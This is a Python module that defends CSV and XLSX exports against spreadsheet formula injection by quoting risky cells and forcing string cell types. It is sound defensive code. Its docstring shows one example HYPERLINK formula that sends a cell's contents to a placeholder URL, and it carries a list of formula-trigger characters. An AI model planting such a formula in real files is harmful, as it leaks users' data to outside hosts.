"""Spreadsheet cells that cannot run: neutralising formula injection in CSV and XLSX exports.

A spreadsheet treats a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(also after a leading tab or carriage return, and a cell starting with a tab or
CR itself) as a formula, so an answer like ``=HYPERLINK("http://…?d="&A2)``
would run when the analyst opens the export. Following the OWASP guidance on
CSV injection, such text gets a leading single quote: the spreadsheet shows it
as text and a reader still sees the original. XLSX cells are in addition
written with the string cell type, so nothing is ever stored as a formula.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""Characters that make a spreadsheet read a cell as a formula (also their full-width forms)."""


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    stripped = text.lstrip("\t\r\n ")
    return text.startswith(FORMULA_STARTS) or stripped.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` with a leading single quote when it is text a spreadsheet would run; else as is."""
    if isinstance(value, str) and value and is_dangerous(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) neutralised."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_bytes(frame: pd.DataFrame, *, sep: str = ",", bom: bool = False, lineterminator: str = "\n") -> bytes:
    """``frame`` as neutralised CSV bytes (UTF-8, with BOM when asked)."""
    text = neutralise_frame(frame).to_csv(index=False, sep=sep, lineterminator=lineterminator)
    return (("\ufeff" if bom else "") + text).encode("utf-8")


def force_text_cells(sheet: Any) -> None:
    """Give every text cell of an openpyxl worksheet the string type (never a formula)."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
